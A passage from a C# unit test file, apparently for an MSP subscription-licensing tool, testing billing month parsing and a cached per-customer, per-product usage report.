            Assert.Equal($"Month '{month}' is not valid: give a month from 2000-01 to 2099-12.", ex.Message);
            Assert.Equal(new DateTime(2099, 12, 1), BillingMonth.Parse("Month", "2099-12").FirstDay);
        }

        [Fact]
        public void The_report_of_a_customer_and_a_product_holds_only_their_rows_and_a_month_computed_once_serves_again_R50_R53()
        {
            using var f = new SubscriptionFixture();
            f.Plan("Basic", "WFBSS, CAS", renewal: 1);
            Customer(f, "Fabrikam");
            var contoso = f.Assign("Basic", new DateTime(2026, 1, 15), seats: 20);
            f.Assign("Basic", new DateTime(2026, 1, 15), seats: 7, customer: "Fabrikam");
            var code = f.Licenses(contoso).Single(l => l.Product == "WFBSS").ActivationCode;
            f.Store.Write("Set-MspLicense", s => LicenseOperations.Set(s, null, code.ToLowerInvariant(), new LicenseChanges { Used = 12, Date = new DateTime(2026, 3, 5) }, Now, SubscriptionFixture.Today));
            var computed = new UsageMonthCache();
            var request = new UsageReportRequest { Months = new[] { BillingMonth.Of(March) }, Customer = CustomerRef.ByName("Contoso"), Product = "WFBSS", ByCustomer = true };
            var month = f.Store.Read(s => UsageOperations.Report(s, request, computed)).Single();
            var line = Assert.Single(month.Lines);
            Assert.Equal(("Contoso", "WFBSS", 20, (int?)12), (line.Customer, line.Product, line.Provisioned, line.Used));
            // The month is in the cache: asking again for every customer computes nothing and reports per product.
            int computing = 0;
            var all = f.Store.Read(s => UsageOperations.Report(s, new UsageReportRequest { Months = new[] { BillingMonth.Of(March) } }, computed, (m, i, n) => computing++)).Single();
            Assert.Equal(0, computing);
            Assert.Equal(new[] { ("CAS", 27), ("WFBSS", 27) }, all.Summaries().Select(x => (x.Product, x.Provisioned)));
        }
    }
}
